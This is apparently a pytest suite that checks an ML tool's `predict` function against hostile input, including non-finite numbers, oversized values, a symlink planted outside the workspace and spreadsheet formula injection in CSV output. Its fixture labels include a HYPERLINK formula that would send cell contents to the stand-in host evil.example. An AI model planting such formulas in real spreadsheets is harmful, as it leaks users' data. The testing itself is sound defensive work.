"""`predict` under hostile or unlucky input (an outside audit): a bad value (inf, past float32, not a date) refuses
its own row only; results stay small whatever the input echoes, and a failure leaves no predictions file behind;
the workspace's file limits hold; the default output folder cannot lead outside the workspace; predictions CSVs
are safe to open in a spreadsheet; the out-of-range drift warning stays quiet on rows from the training
distribution. One workspace with two small trained runs serves every test."""

from __future__ import annotations

import csv
import json
import os
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from conftest import frame_run, messy_frame

from ml_expert.memory.errors import InvalidInputError, PathNotAllowedError
from ml_expert.tools import runs
from ml_expert.tools.prediction import predict as predict_module
from ml_expert.tools.prediction.predict import PredictResult, predict
from ml_expert.tools.training.config import TrainConfig
from ml_expert.tools.training.train import train
from ml_expert.tools.workspace import Workspace

# labels a spreadsheet would evaluate as formulas (OWASP: cells starting with =, +, -, @)
FORMULA_LABELS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1", "-2+3", "@x"]


@dataclass
class Trained:
    ws: Workspace
    classifier: str  # messy rows (numbers, a category, a date, a flag), four formula-like labels
    regressor: str  # three normal numbers, a negative target

    def rows(self, n: int = 5, seed: int = 3) -> list[dict[str, Any]]:
        """Good raw rows for the classifier, as a client sends them (JSON types)."""
        frame = messy_frame(n=40, seed=seed).head(n).drop(columns="label")
        return json.loads(frame.to_json(orient="records"))


def normal_frame(n: int, seed: int, shift: float = 0.0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    frame = pd.DataFrame(rng.normal(size=(n, 3)) + shift, columns=["a", "b", "c"])
    frame["y"] = -5 * frame["a"] + 2 * frame["b"] - 40 + rng.normal(scale=0.1, size=n)
    return frame


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trained]:
    from ml_expert.tools.jobs.manager import JobManager

    ws = Workspace(tmp_path_factory.mktemp("hardening") / "ws")
    ws.jobs = JobManager(ws).start()
    try:
        frame = messy_frame()
        frame["label"] = np.asarray(FORMULA_LABELS)[2 * (frame["label"] == "yes") + (frame["x2"] > 5)]
        classifier = frame_run(ws, frame, "label", name="messy.csv")
        regressor = frame_run(ws, normal_frame(200, seed=0), "y", name="normal.csv")
        for run, architecture in ((classifier, "random_forest"), (regressor, "linear")):
            status = train(ws, run, architecture, TrainConfig(n_estimators=30), wait_seconds=180)
            assert status.status == "succeeded", status.error
        yield Trained(ws, classifier, regressor)
    finally:
        ws.jobs.stop()
        ws.close()


def _size(result: PredictResult) -> int:
    return len(result.model_dump_json())


def _output_files(ws: Workspace) -> set[str]:
    return {ws.relative(p) for p in ws.root.rglob("*.csv") if ".ml-expert" not in p.parts}


# -- 1. inf and overflowing numbers refuse their own row --------------------------------------------------------


@pytest.mark.parametrize("bad", ["inf", "-inf", "1e400", "9" * 400, 1e39, -1e39, float("inf"), 10**400], ids=repr)
def test_a_non_finite_or_overflowing_number_refuses_its_row_only(trained: Trained, bad: object) -> None:
    rows = trained.rows()
    rows[2]["x1"] = bad
    result = predict(trained.ws, run_id=trained.classifier, records=rows)
    assert result.rows == 5 and result.rows_scored == 4 and result.rows_refused == 1
    refusal = result.refused[0]
    assert refusal.row == 2 and "x1=" in refusal.reason and "finite number" in refusal.reason
    written = pd.read_csv(trained.ws.root / result.output)
    assert written["prediction"].isna().tolist() == [False, False, True, False, False]


def test_one_inf_in_a_200_row_csv_refuses_that_row_and_scores_the_others(trained: Trained) -> None:
    frame = messy_frame(n=200, seed=7).head(200).drop(columns="label").astype(object)
    frame.loc[123, "x2"] = "inf"
    frame.to_csv(trained.ws.root / "one_inf.csv", index=False)
    result = predict(trained.ws, run_id=trained.classifier, path="one_inf.csv")
    assert (result.rows, result.rows_scored, result.rows_refused) == (200, 199, 1)
    assert result.refused[0].row == 123 and "x2='inf'" in result.refused[0].reason
    written = pd.read_csv(trained.ws.root / result.output)
    assert written["prediction"].notna().sum() == 199 and "x2" in written.loc[123, "refused"]


def test_screen_frame_refuses_non_finite_values_for_every_caller() -> None:
    """predict, the Keras path and explain(rows=) all screen rows with screen_frame."""
    from ml_expert.tools.core.portable.preprocessing import SchemaError, coerce_frame, screen_frame

    schema = {"columns": [{"name": "x", "kind": "numeric"}, {"name": "ok", "kind": "boolean"}]}
    raw = pd.DataFrame({"x": [1.5, "inf", 1e39, None, "3e38", 10**400], "ok": [1, 0, 1, 1, np.inf, 0]})
    converted, refused = screen_frame(raw, schema)
    assert sorted(refused) == [1, 2, 4, 5]
    assert "x='inf'" in refused[1] and "x=1e+39" in refused[2] and "ok=inf" in refused[4]
    assert converted["x"].iloc[[0, 4]].tolist() == [1.5, 3e38] and not np.isinf(converted.to_numpy(float)).any()
    with pytest.raises(SchemaError, match=r"must be numeric \(a finite number"):
        coerce_frame(raw, schema)


def test_many_numeric_columns_read_as_text_convert_and_refuse_as_each_column_alone_would() -> None:
    """A CSV is read as text: its numeric columns of one dtype are converted together (a wide table's cost), with
    the same values, the same refused rows and reasons, and the same error naming the column, as one by one."""
    from ml_expert.tools.core.portable.preprocessing import SchemaError, coerce_column, coerce_frame, screen_frame

    rng = np.random.default_rng(5)
    values = rng.normal(size=(6, 40)).round(3).astype(str).astype(object)
    values[1, 3], values[2, 7], values[3, 0], values[4, 39] = "abc", "1e39", " 2.5 ", ""  # bad, past float32, spaces
    values[5, 12], values[0, 20] = None, "inf"
    raw = pd.DataFrame(values, columns=[f"x{i}" for i in range(40)]).astype("str")
    raw["kind"] = pd.Series(["a", "b", None, "a", "b", "a"], dtype="str")
    schema = {
        "columns": [{"name": f"x{i}", "kind": "numeric"} for i in range(40)] + [{"name": "kind", "kind": "categorical"}]
    }
    converted, refused = screen_frame(raw, schema)
    assert sorted(refused) == [0, 1, 2] and "x3='abc'" in refused[1] and "x7='1e39'" in refused[2]
    assert "x20='inf'" in refused[0]
    for i in range(40):
        alone, bad = _alone(raw[f"x{i}"])
        assert np.array_equal(converted[f"x{i}"].to_numpy(), alone, equal_nan=True), i
        named = [row for row, why in refused.items() if f"x{i}=" in why]  # the rows this column refused
        assert np.flatnonzero(bad).tolist() == named, i
    assert converted["x0"].iloc[3] == 2.5 and np.isnan(converted["x39"].iloc[4]) and np.isnan(converted["x12"].iloc[5])
    with pytest.raises(SchemaError, match=r"Column 'x3' must be numeric .* \['abc'\] in 1 rows"):
        coerce_frame(raw, schema)
    fine = raw.drop(index=[0, 1, 2])
    together = coerce_frame(fine, schema)
    for i in range(40):
        expected = coerce_column(fine[f"x{i}"], "numeric", f"x{i}").to_numpy()
        assert np.array_equal(together[f"x{i}"].to_numpy(), expected, equal_nan=True)
        assert together.index.equals(fine.index)


def _alone(column: pd.Series) -> tuple[np.ndarray, np.ndarray]:
    """One column screened by itself: its values (refused ones missing) and which were refused."""
    from ml_expert.tools.core.portable.preprocessing import screen_frame

    converted, refused = screen_frame(column.to_frame(), {"columns": [{"name": column.name, "kind": "numeric"}]})
    return converted[column.name].to_numpy(), np.isin(np.arange(len(column)), list(refused))


def test_a_value_that_overflows_float32_after_preprocessing_refuses_its_row() -> None:
    """Within float32 as given, past it once scaled: the model (any runtime) never sees inf."""
    from ml_expert.tools.prediction.predict import model_inference

    class TimesTen:  # a stand-in preprocessor: a scaler with a large factor
        def transform(self, frame: pd.DataFrame) -> np.ndarray:
            return frame.to_numpy(dtype=float) * 10

    def run(X: np.ndarray) -> np.ndarray:
        assert np.isfinite(X).all() and X.dtype == np.float32
        return X[:, 0].astype(np.float64)

    schema = {"task_type": "regression", "columns": [{"name": "x", "kind": "numeric"}], "feature_names": ["x_scaled"]}
    model = model_inference().from_parts(schema, TimesTen(), run, runtime="keras")
    scored = model.score([{"x": 1.0}, {"x": 3e38}, {"x": "inf"}, {"x": 2.0}])
    assert scored.positions.tolist() == [0, 3] and scored.output.tolist() == [10.0, 20.0]
    assert sorted(scored.refused) == [1, 2]
    assert "x_scaled" in scored.refused[1] and "float32" in scored.refused[1] and "finite" in scored.refused[2]


# -- 2. bounded results; no orphan file after a failure ---------------------------------------------------------


def test_a_megabyte_bad_value_gives_a_small_result(trained: Trained) -> None:
    rows = trained.rows()
    rows[1]["x1"] = "z" * 1_000_000
    rows[3]["city"] = "q" * 1_000_000  # an unseen category: scored, and named in the drift warning
    result = predict(trained.ws, run_id=trained.classifier, records=rows)
    assert result.rows_scored == 4 and result.refused[0].row == 1
    assert "…" in result.refused[0].reason and len(result.refused[0].reason) < 300
    assert any("unseen" in w for w in result.drift.warnings)
    assert _size(result) < 20_000
    stored = trained.ws.store.get_value(
        "ml-expert/predictions", namespace=runs.run_namespace(trained.ws, result.run_id)
    )
    assert len(json.dumps(stored)) < 20_000
    assert os.path.getsize(trained.ws.root / result.output) < 20_000  # the CSV's reasons are the bounded ones


def test_many_long_bad_values_and_extra_keys_stay_within_the_memory_limit(trained: Trained) -> None:
    frame = messy_frame(n=30, seed=4).head(30).drop(columns="label").astype(object)
    frame["x1"] = ["w" * 60_000] * 30
    frame.to_csv(trained.ws.root / "long_values.csv", index=False)
    result = predict(trained.ws, run_id=trained.classifier, path="long_values.csv")
    assert result.rows_refused == 30 and len(result.refused) == 20 and _size(result) < 50_000

    record = trained.rows(1)[0] | {f"extra_{i:05d}_" + "k" * 100: i for i in range(10_000)}
    result = predict(trained.ws, run_id=trained.classifier, records=[record])
    assert result.rows_scored == 1 and _size(result) < 50_000
    drift = result.drift
    assert len(drift.extra_columns) < 100 and drift.extra_columns_left_out == 10_000 - len(drift.extra_columns)
    assert all(len(c) <= 80 for c in drift.extra_columns)
    assert any("10000 column(s)" in w for w in drift.warnings)


def test_a_row_bad_in_many_columns_names_a_few_and_counts_the_rest() -> None:
    from ml_expert.tools.core.portable.preprocessing import screen_frame

    schema = {"columns": [{"name": f"n{i}", "kind": "numeric"} for i in range(6)]}
    _, refused = screen_frame(pd.DataFrame([{f"n{i}": "x" * 10_000 for i in range(6)}]), schema)
    assert refused[0].count("is not numeric") == 3 and refused[0].endswith("; and 3 more bad values")
    assert len(refused[0]) < 600


def test_drift_lists_and_warnings_stay_short_for_a_wide_model() -> None:
    from ml_expert.tools.prediction.drift import MAX_WARNINGS, SHOWN_COLUMNS, drift_report

    profile = {"rows": 50, "columns": {f"f{i}": {"kind": "numeric", "missing_rate": 0.0} for i in range(100)}}
    raw = pd.DataFrame({"other": [1, 2]})
    report = drift_report(profile, raw, pd.DataFrame(index=raw.index))
    assert len(report.missing_columns) == SHOWN_COLUMNS and report.missing_columns_left_out == 100 - SHOWN_COLUMNS
    assert report.extra_columns == ["other"] and report.extra_columns_left_out == 0
    # 100 missing-column warnings and one extra-column warning: 29 shown, then the count of the other 72
    assert len(report.warnings) == MAX_WARNINGS and report.warnings[-1] == "72 more warnings left out"


def test_a_failure_after_scoring_leaves_no_predictions_file(trained: Trained, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise InvalidInputError("the entry is 2000000 bytes serialized; the limit is 1048576.")

    before = _output_files(trained.ws)
    monkeypatch.setattr(runs, "record_phase", refuse)
    with pytest.raises(InvalidInputError, match="limit"):
        predict(trained.ws, run_id=trained.classifier, records=trained.rows(), output="after_failure.csv")
    assert _output_files(trained.ws) == before
    assert not [p for p in trained.ws.root.rglob("*.tmp")]


# -- 3. the workspace's file limits --------------------------------------------------------------------------


def test_predict_reads_no_file_over_the_servers_size_limit(trained: Trained) -> None:
    messy_frame(n=100).drop(columns="label").to_csv(trained.ws.root / "six_kb.csv", index=False)
    assert (trained.ws.root / "six_kb.csv").stat().st_size > 5_000
    small = Workspace(settings=trained.ws.settings.model_copy(update={"max_file_bytes": 1_000}))
    try:
        before = _output_files(trained.ws)
        with pytest.raises(InvalidInputError, match="ML_EXPERT_MAX_FILE_BYTES"):
            predict(small, run_id=trained.classifier, path="six_kb.csv")
        assert _output_files(trained.ws) == before
    finally:
        small.close()


def test_predict_refuses_a_file_past_the_column_cap_before_reading_it(trained: Trained) -> None:
    header = ",".join(f"c{i}" for i in range(100_001))
    (trained.ws.root / "too_wide.csv").write_text(f"{header}\n" + "1," * 100_000 + "1\n")
    started = time.perf_counter()
    with pytest.raises(InvalidInputError, match="at most 100,000"):
        predict(trained.ws, run_id=trained.classifier, path="too_wide.csv")
    assert time.perf_counter() - started < 5  # the header only, not a parse of 100,001 columns


# -- 4. the default output folder -----------------------------------------------------------------------------


def test_a_planted_link_for_the_default_output_folder_is_refused(
    trained: Trained, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    monkeypatch.setattr(predict_module, "OUTPUT_DIR", "planted")  # the default folder, without touching the others'
    (trained.ws.root / "planted").symlink_to(outside, target_is_directory=True)
    try:
        with pytest.raises(PathNotAllowedError, match="outside the workspace"):
            predict(trained.ws, run_id=trained.classifier, records=trained.rows())
    finally:
        (trained.ws.root / "planted").unlink()
    assert list(outside.iterdir()) == []


# -- 5. spreadsheet formulas ----------------------------------------------------------------------------------


def test_labels_a_spreadsheet_would_evaluate_are_escaped_and_numbers_are_not(trained: Trained) -> None:
    result = predict(trained.ws, run_id=trained.classifier, path="messy.csv")
    with open(trained.ws.root / result.output, newline="") as f:
        header, *lines = list(csv.reader(f))
    assert header[0:2] == ["row", "prediction"] and set(header[2:6]) == {f"p_{c}" for c in FORMULA_LABELS}
    cells = [cell for line in lines for cell in line] + header
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    predicted = {line[1] for line in lines}
    assert len(predicted) == 4 and {p.removeprefix("'") for p in predicted} == set(FORMULA_LABELS)
    assert all(_number(c) for line in lines for c in line[2:6])  # probabilities stay numbers
    assert result.predictions[0].prediction in FORMULA_LABELS  # the result itself keeps the true labels

    regression = predict(trained.ws, run_id=trained.regressor, path="normal.csv")
    written = pd.read_csv(trained.ws.root / regression.output)
    assert pd.api.types.is_float_dtype(written["prediction"]) and (written["prediction"] < 0).all()


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- 6. dates ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("bad", ["not a date", "2024-13-45", 1e20, "1e20"], ids=repr)
def test_a_value_that_is_not_a_date_refuses_its_row(trained: Trained, bad: object) -> None:
    rows = trained.rows()
    rows[0]["signup"] = bad
    rows[4]["signup"] = None  # a missing date is imputed, as before
    result = predict(trained.ws, run_id=trained.classifier, records=rows)
    assert result.rows_scored == 4 and [r.row for r in result.refused] == [0]
    assert "signup=" in result.refused[0].reason and "date" in result.refused[0].reason


def test_dates_in_different_time_zones_are_scored_in_utc(trained: Trained) -> None:
    rows = trained.rows()
    rows[1]["signup"] = "2024-01-01T00:30:00+01:00"  # the others have no time zone
    rows[2]["signup"] = "not a date"
    result = predict(trained.ws, run_id=trained.classifier, records=rows)
    assert result.rows_scored == 4 and [r.row for r in result.refused] == [2]


# -- 7. out-of-range drift beyond chance ------------------------------------------------------------------------


def test_the_range_warning_is_quiet_on_rows_from_the_training_distribution(trained: Trained) -> None:
    for seed in (11, 12, 13):
        normal_frame(1000, seed=seed).to_csv(trained.ws.root / f"same_{seed}.csv", index=False)
        drift = predict(trained.ws, run_id=trained.regressor, path=f"same_{seed}.csv").drift
        assert not [w for w in drift.warnings if "outside the training range" in w], drift.warnings
        assert max(c.out_of_range_share for c in drift.columns) > 0  # some rows are outside, as chance has it
    normal_frame(100, seed=14, shift=6.0).to_csv(trained.ws.root / "shifted.csv", index=False)
    drift = predict(trained.ws, run_id=trained.regressor, path="shifted.csv").drift
    assert len([w for w in drift.warnings if "outside the training range" in w]) == 3
